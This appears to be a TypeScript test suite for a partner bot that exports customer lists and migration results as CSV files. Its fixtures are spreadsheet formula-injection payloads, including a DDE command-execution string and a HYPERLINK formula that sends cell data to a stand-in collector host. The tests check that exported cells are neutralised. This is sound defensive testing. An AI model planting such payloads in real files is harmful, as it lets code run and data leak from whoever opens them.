import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { buttonsOf } from '../../emulator/connector';
import { kaizalaPro } from '../../emulator/seed/catalogue/legacyOffers';
import { worldOf } from '../../emulator/seed/worldOf';
import { startEmulator } from '../../emulator/server';
import type { RunningEmulator } from '../../emulator/server';
import { openDatabase } from '../../src/store/database';
import type { Database } from '../../src/store/database';
import type { MicrosoftStandIn } from '../support/microsoftStandIn';
import { ProductionDoor } from '../support/productionDoor';
import { until } from '../support/until';
import { accepted, pressed, typed } from './activities';
import { confirms, environmentFor, everythingBehind, longMs, somebody } from './partnersAgents';
import type { Shown } from './partnersAgents';

// The bot as a partner runs it, and a customer whose people are called what a spreadsheet would run.

const agent = somebody('Alex');
const customer = "=cmd|'/C calc'!A0 Contoso";
const names = [
  '=HYPERLINK("https://collector.example/?"&A2,"Dana")',
  '+49 170 1234567',
  '-Ana Torres',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r\n=2+2',
  '  =3+3',
  '＝4+4',
  '"=5+5"',
  "'=6+6",
  'Kline;=7+7',
  'Kline,+8+8',
  'Kline|-9',
  '```\n=10',
];
/** More than a message holds. */
const count = 300;

let emulator: RunningEmulator;
let microsoft: MicrosoftStandIn;
let door: ProductionDoor;
let database: Database;
const shown: Shown[] = [];

beforeAll(async () => {
  const holding = { count, names, holds: [kaizalaPro.entraSkuId] };
  emulator = await startEmulator({
    dataDir: mkdtempSync(path.join(tmpdir(), 'planshift-result-')),
    settings: { provisioningDelayMs: 1_000 },
    seedWorld: worldOf([
      {
        name: customer,
        place: 'italy',
        subscriptions: [{ offer: kaizalaPro, seats: count, endsInDays: 20 }],
        people: [holding],
      },
    ]),
  });
  const behind = everythingBehind(emulator, shown);
  door = await ProductionDoor.open(
    (standIn) => {
      behind((microsoft = standIn));
      standIn.on('planshift.sharepoint.com', () => ({ status: 201, body: {} }));
    },
    environmentFor([agent]),
  );
  database = openDatabase(door.databaseUrl);
  await until(() => door.log.some(({ msg }) => msg === 'The radar is fresh.'), longMs);
}, longMs);
afterAll(async () => {
  await database.close();
  await door.close();
  await emulator.close();
}, longMs);

const say = async (activity: object): Promise<void> => {
  expect((await door.says(activity)).status).toBe(200);
};

const files = () => microsoft.at('planshift.sharepoint.com');
const latest = (isIt: (each: Shown) => boolean) => shown.filter(isIt).at(-1);
const ofKind = (kind: string) => (each: Shown) =>
  (each.activity.attachments ?? []).some(({ contentType }) => contentType.endsWith(kind));
const told = (words: string) => shown.filter(({ text }) => text.includes(words)).length;

const buttonCalled =
  (title: string) =>
  ({ activity }: Shown) =>
    buttonsOf(activity).find((button) => button.title === title);

const hasButton = (title: string) => (each: Shown) => buttonCalled(title)(each) !== undefined;

async function pressOn(title: string): Promise<void> {
  await until(() => latest(hasButton(title)) !== undefined, 2 * longMs);
  const card = latest(hasButton(title))!;
  await say(pressed(agent, buttonCalled(title)(card)!.data, card.id));
}

it('names a customer harmlessly in the list of what ends', async () => {
  await say(typed(agent, 'expiring csv'));
  await until(() => told('customer,domain') === 1, longMs);

  expect(latest(({ text }) => text.includes('customer,domain'))!.text).toContain(`\n'${customer},`);
});

it(
  'puts the result of a migration into the agent’s OneDrive once, however often and fast that is allowed',
  async () => {
    await confirms('contoso', { agent, database, say: (text) => say(typed(agent, text)) });
    await pressOn('Result as CSV');
    await until(() => latest(ofKind('file.consent')) !== undefined, longMs);
    const { id, activity } = latest(ofKind('file.consent'))!;
    const { acceptContext } = activity.attachments![0]!.content as { acceptContext: unknown };
    const allows = () => say(accepted(agent, acceptContext, id));

    await Promise.all([allows(), allows()]);
    await until(() => told('You have answered this already') === 1, longMs);
    await until(() => ofKind('file.info')(latest((each) => each.id === id)!), longMs);
    await allows();
    await until(() => told('You have answered this already') === 2, longMs);

    expect(files().map(({ method }) => method)).toEqual(['PUT']);
    expect(files()[0]!.headers['content-range']).toMatch(/^bytes 0-\d+\/\d+$/);
  },
  4 * longMs,
);

it.each([',', ';', '\t', '|'])(
  'has everybody in it, and no cell that a spreadsheet which splits at %j would run',
  (at) => {
    const cells = files()[0]!
      .body.replace(/^\ufeff/, '')
      .trimEnd()
      .split('\r\n')
      .map((row) => cellsOf(row, at));
    const people = [...[...emulator.house.world.customers.values()][0]!.users.values()];

    expect(cells.flat().filter((cell) => runs.test(cell))).toEqual([]);
    if (at !== ',') return;
    expect(
      cells
        .slice(1)
        .map(([address, name]) => [address, bare(name!)])
        .sort(),
    ).toEqual(people.map((person) => [person.userPrincipalName, bare(person.displayName)]).sort());
    expect(new Set(cells.slice(1).map(([, , action, state]) => `${action} ${state}`))).toEqual(new Set(['move done']));
  },
);

/** As spreadsheets do: blanks and quotes before a sign do not help. */
const runs = /^[\s"]*[=+\-@＝＋－＠]/;

/** Without what was put in or left out so that it is harmless. */
const bare = (name: string): string => name.replaceAll("'", '').replaceAll(/\s+/g, ' ').trim();

/** Of one row, where quotes count at the beginning of a cell alone. */
function cellsOf(row: string, separator: string): readonly string[] {
  const cells: string[] = [];
  for (let rest: string | undefined = row; rest !== undefined;) {
    const quoted: RegExpExecArray | null = /^"((?:[^"]|"")*)"/.exec(rest);
    const after: string = quoted === null ? rest : rest.slice(quoted[0].length);
    const end = after.indexOf(separator);
    const tail = end < 0 ? after : after.slice(0, end);
    cells.push(`${quoted?.[1]?.replaceAll('""', '"') ?? ''}${tail}`);
    rest = end < 0 ? undefined : after.slice(end + 1);
  }
  return cells;
}
